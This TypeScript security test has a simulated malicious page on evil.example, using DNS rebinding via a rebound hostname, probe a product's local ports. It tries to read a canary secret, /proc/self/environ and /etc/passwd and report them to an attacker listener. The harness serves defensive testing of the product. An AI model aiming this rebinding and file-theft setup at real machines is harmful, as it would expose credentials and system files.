/** A web page of evil.example, in a browser on the machine that Tripline runs on, tries every port that Tripline listens on. */
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import type { Breach, Ledger } from '../ledger.ts';
import type { ListeningPort } from '../process-tree.ts';
import { startVictim, type Victim } from '../victim.ts';
import { createOracle } from '../../support/oracle.ts';
import { until } from '../../support/until.ts';
import { writeTrips } from '../../support/write-trips.ts';
import { PAGE, SCRIPT, startEvilSite, type EvilSite } from './evil-site.ts';
import { openBrowser } from './open-browser.ts';
import { shotsFor, type Shots } from './shots.ts';
import { tracesOf } from './traces.ts';
import { floodByPage } from './flood-by-page.ts';

const SCENARIO = 'web page';
const PAGES_AT_ONCE = 4;
const SECRET = 'the-canarys-own-secret-4711';
/** By address, and by a name of the attacker's that was bound to this machine after the page had come. */
const HOSTS = ['127.0.0.1', 'localhost', '[::1]', 'rebind.evil.example'];
/** What anybody may read, rebound or not: it tells nothing of what is inside. */
const OPEN_PATHS = ['/healthz', '/readyz', '/ping'];
/** `/metrics` of gateway and worker are scraped by address and by name: a decision of the product's. */
const SCRAPED = ['/metrics'];
/** Temporal's dev server has its counters at a random port that cannot be off: what remains, as SECURITY.md says. */
const SCRAPED_AT = ['gateway', 'worker', 'temporal'];

interface Tried {
  name: string;
  id: string;
  reads: { by: string; status: number; path: string; text: string }[];
}

export async function attackByPage(ledger: Ledger): Promise<void> {
  const folder = mkdtempSync(join(tmpdir(), 'attack-page-'));
  const month = join(folder, 'yellow_tripdata_2023-05.parquet');
  await writeTrips({ path: month, month: '2023-05', rows: 2_000 });
  const canary = join(folder, 'canary.txt');
  writeFileSync(canary, `${SECRET}\n`);
  const victim = await startVictim({
    scenario: SCENARIO,
    ledger,
    sourceUrl: `file://${folder}`,
    env: { OPERATOR_TOKEN: SECRET },
  });
  const evil = await startEvilSite();
  const browser = await openBrowser();
  try {
    await until('the month is published', async () => (await trips(victim)) === 2_000, {
      deadlineMs: 60_000,
    });
    const shots = shotsFor({
      files: [canary, '/proc/self/environ', '/etc/passwd'],
      listener: `http://127.0.0.1:${evil.port}`,
      source: 'yellow',
    });
    const ports = victim.ports();
    const visits = ports.flatMap((port, at) =>
      HOSTS.map((host, h) => ({ port, host, prefix: `p${at}h${h}` })),
    );
    const tried = new Map<string, { where: string; one: Tried; port: ListeningPort }>();
    await inTurns(visits, async ({ port, host, prefix }) => {
      for (const one of await visit({ browser, evil, shots, host, port: port.port, prefix }))
        tried.set(one.id, { where: `${port.part} port by ${host}, ${one.name}`, one, port });
    });
    const traces = await tracesOf(victim, evil);
    for (const [id, { where, one, port }] of tried)
      ledger.note(SCENARIO, where, [...readBreaches(one, port), ...(traces.get(id) ?? [])]);
    ledger.note(SCENARIO, 'after all of it', [
      ...(traces.get('') ?? []),
      ...victim.newBreaches(),
      ...(await wrongAnswers(victim, month)),
    ]);
    await floodByPage({
      scenario: SCENARIO,
      ledger,
      victim,
      browser,
      ports,
      isRight: async () => (await trips(victim)) === 2_000,
    });
  } finally {
    await browser.close();
    evil.close();
    await victim.stop();
    rmSync(folder, { recursive: true, force: true });
  }
}

async function inTurns<Item>(items: readonly Item[], act: (item: Item) => Promise<void>): Promise<void> {
  const left = [...items];
  const one = async (): Promise<void> => {
    for (let item = left.shift(); item !== undefined; item = left.shift()) await act(item);
  };
  await Promise.all(Array.from({ length: PAGES_AT_ONCE }, one));
}

/** The page of one origin at one address, until it has tried everything. */
async function visit({
  browser,
  evil,
  shots,
  host,
  port,
  prefix,
}: {
  browser: Browser;
  evil: EvilSite;
  shots: Shots;
  host: string;
  port: number;
  prefix: string;
}): Promise<Tried[]> {
  const sameOrigin = host.endsWith('evil.example');
  const target = `http://${host}:${port}`;
  const home = sameOrigin ? target : `http://evil.example:${evil.port}`;
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    if (sameOrigin) {
      // It came from the attacker's address before the name was bound to this one.
      await page.route(`${home}/attack.html`, (route) =>
        route.fulfill({ contentType: 'text/html', body: PAGE }),
      );
      await page.route(`${home}/attack-page.js`, (route) =>
        route.fulfill({ contentType: 'text/javascript', body: SCRIPT }),
      );
    }
    const plan = JSON.stringify({ target, sameOrigin, prefix, shots });
    await page.addInitScript(`
      const plan = ${plan};
      const of = (id, value) => JSON.parse(JSON.stringify(value).replaceAll('CASE', id));
      window.plan = { ...plan, gets: (id) => of(id, plan.shots.gets), posts: (id) => of(id, plan.shots.posts) };`);
    await page.goto(`${home}/attack.html`);
    return await page.evaluate<Tried[]>('window.attack()');
  } finally {
    await context.close();
  }
}

/** Whatever a page of another origin has read, unless it is for everybody. */
function readBreaches({ reads }: Tried, { part }: ListeningPort): Breach[] {
  const open = SCRAPED_AT.includes(part) ? [...OPEN_PATHS, ...SCRAPED] : OPEN_PATHS;
  const isOpen = (path: string): boolean => open.includes(path.split('?')[0] ?? '');
  const told = reads
    .filter(({ by, status, path, text }) =>
      by === 'fetch'
        ? status < 300 && !isOpen(path) && !(path === '/' && text === 'Ok.\n')
        : /script|message|worker|event|socket|font/.test(by) || text.includes(SECRET),
    )
    .map(
      ({ by, path, text }) =>
        `${by} ${decodeURIComponent(path).slice(0, 90)} gave ${JSON.stringify(text.slice(0, 60))}`,
    );
  return [...new Set(told)].slice(0, 3).map((what) => ({ kind: 'read', what }));
}

async function trips(victim: Victim): Promise<number> {
  return (await victim.graphql<{ p90: { trips: number } }>('{ p90 { trips } }')).p90.trips;
}

async function wrongAnswers(victim: Victim, month: string): Promise<Breach[]> {
  const oracle = await createOracle([month]);
  const right = await oracle.p90({});
  oracle.close();
  try {
    const { p90, source } = await victim.graphql<{ p90: typeof right; source: { paused: boolean | null } }>(
      '{ p90 { value trips tripsOver } source { paused } }',
    );
    const breaches: Breach[] = [];
    if (JSON.stringify(p90) !== JSON.stringify(right))
      breaches.push({
        kind: 'wrong answer',
        what: `${JSON.stringify(p90)} instead of ${JSON.stringify(right)}`,
      });
    if (source.paused === true) breaches.push({ kind: 'steered', what: 'the source is paused' });
    if (!existsSync(month)) breaches.push({ kind: 'steered', what: 'the file is gone' });
    return breaches;
  } catch (error) {
    return [{ kind: 'stuck', what: `the gateway does not answer: ${String(error)}` }];
  }
}
